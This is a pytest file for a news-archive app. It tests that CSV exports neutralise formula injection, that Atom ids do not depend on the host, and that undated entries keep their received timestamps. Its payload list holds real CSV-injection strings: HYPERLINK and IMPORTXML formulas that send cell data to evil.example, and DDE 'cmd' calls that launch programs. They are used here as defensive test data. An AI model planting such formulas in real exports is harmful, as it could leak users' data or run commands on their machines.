"""Exports a user can open safely and feeds that stay the same: CSV cells that would start a spreadsheet formula
(real CSV-injection payloads in titles, names and sources) are neutralised; Atom ids do not depend on the host
the server answers on; an undated article's `updated` is when the archive received it, not the build time."""

from __future__ import annotations

import csv
import io
import json
import os
import xml.etree.ElementTree as ET
from datetime import UTC, datetime

import pytest

from app import create_app
from indexer import build
from web.spreadsheet import FORMULA_START, spreadsheet_safe

# From OWASP's CSV injection page and published proof-of-concept exports.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1&B1,"Error: click for details")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    "=1+1\tinjected",
]
# Three different people: names sharing a full name are merged by the canon (tests/test_canon.py), not kept apart.
NAME_PAYLOADS = ["=HYPERLINK(\"http://evil.example\",\"Ann Lee\")", "@Bo Chan", "-Cy Dorn+cmd|' /C calc'!A0"]
ORG_PAYLOADS = ["+Acme Corp", "=Acme()"]
SOURCE_PAYLOADS = ["=Wire Service", "\tTab Wire", "\r=CR Wire"]
ATOM = "{http://www.w3.org/2005/Atom}"


@pytest.fixture(scope="module")
def payload_index(tmp_path_factory):
    base = tmp_path_factory.mktemp("exports")
    corpus = base / "corpus"
    corpus.mkdir()
    recs = []
    for i, payload in enumerate(PAYLOADS):
        recs.append({"title": payload, "date": f"2020-01-{i + 1:02d}", "source": SOURCE_PAYLOADS[i % 3],
                     "persons": [NAME_PAYLOADS[i % 3]], "orgs": [ORG_PAYLOADS[i % 2]],
                     "body": f"The injection case number csvcase{i} was filed on Monday by the court."})
    recs.append({"title": "An undated notice", "body": "An undated notice about the undatedcase harbour."})
    (corpus / "payloads.jsonl").write_text("".join(json.dumps(r) + "\n" for r in recs), encoding="utf-8")
    received = datetime(2021, 6, 1, 12, 30, tzinfo=UTC).timestamp()
    os.utime(corpus / "payloads.jsonl", (received, received))
    ix = base / "ix"
    build.rebuild(corpus, ix)
    return corpus, ix


def test_csv_cells_never_start_a_formula_and_keep_their_text(payload_index):
    corpus, ix = payload_index
    client = create_app({"INDEX_DIR": str(ix)}).test_client()
    resp = client.get("/search.csv", query_string={"q": "injection"})
    assert resp.status_code == 200
    rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True), newline="")))
    header, body = rows[0], rows[1:]
    assert len(body) == len(PAYLOADS)
    for row in body:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
    cells = {c for row in body for c in row}
    col = {name: {row[header.index(name)] for row in body} for name in ("title", "persons", "orgs", "source")}
    for payload in PAYLOADS:  # shown as the text it is (whitespace normalized at ingest), nothing lost
        assert "'" + " ".join(payload.split()) in col["title"], payload
    for name in NAME_PAYLOADS:
        assert any(name in c and c.startswith("'") for c in col["persons"]), (name, col["persons"])
    # Organisation names may be merged by the canonicaliser (both payloads name "Acme"): whichever is shown is
    # neutralised.
    assert col["orgs"] and all(c.startswith("'") and "Acme" in c for c in col["orgs"]), col["orgs"]
    assert any(c.startswith("'") and "Wire Service" in c for c in col["source"]), col["source"]
    assert cells  # every cell quoted: a separator inside a value never opens a new cell
    raw = resp.get_data(as_text=True).splitlines()[1]
    assert raw.startswith('"') and '","' in raw


def test_tab_and_carriage_return_starts_are_neutralised_too():
    # Ingest normalizes whitespace, so a tab or CR rarely reaches a cell; any that does is neutralised as well.
    for cell in ("\t=1+1", "\r=cmd|' /C calc'!A0", "=1", "+1", "-1", "@A1"):
        assert spreadsheet_safe(cell) == "'" + cell
    for cell in ("Ann Lee", "2020-01-01", "", "'quoted", " =1"):
        assert spreadsheet_safe(cell) == cell


def _feed(ix, host: str) -> ET.Element:
    client = create_app({"INDEX_DIR": str(ix)}).test_client()
    resp = client.get("/search.atom", query_string={"q": "injection OR undatedcase"}, base_url=f"http://{host}/")
    assert resp.status_code == 200
    return ET.fromstring(resp.get_data())


def test_atom_ids_are_the_same_wherever_the_server_runs(payload_index):
    _corpus, ix = payload_index
    here, there = _feed(ix, "127.0.0.1:5000"), _feed(ix, "archive.example.org")
    ids = [e.findtext(f"{ATOM}id") for e in here.iter(f"{ATOM}entry")]
    assert len(ids) == len(PAYLOADS) + 1 == len(set(ids))
    assert ids == [e.findtext(f"{ATOM}id") for e in there.iter(f"{ATOM}entry")]
    assert here.findtext(f"{ATOM}id") == there.findtext(f"{ATOM}id")
    for entry_id in [*ids, here.findtext(f"{ATOM}id")]:
        assert entry_id.startswith("tag:") and "127.0.0.1" not in entry_id


def test_an_undated_articles_updated_is_when_it_was_received_not_the_build_time(payload_index):
    corpus, ix = payload_index
    build.rebuild(corpus, ix)  # a later build: the undated entry must not move
    feed = _feed(ix, "127.0.0.1")
    entries = {e.findtext(f"{ATOM}title"): e.findtext(f"{ATOM}updated") for e in feed.iter(f"{ATOM}entry")}
    assert entries["An undated notice"] == "2021-06-01T12:30:00Z"  # the file's modification time
    assert feed.findtext(f"{ATOM}updated") != entries["An undated notice"]  # the feed itself: the build
    assert list(entries.values())[-1] == "2021-06-01T12:30:00Z"  # unknown dates last, as documented
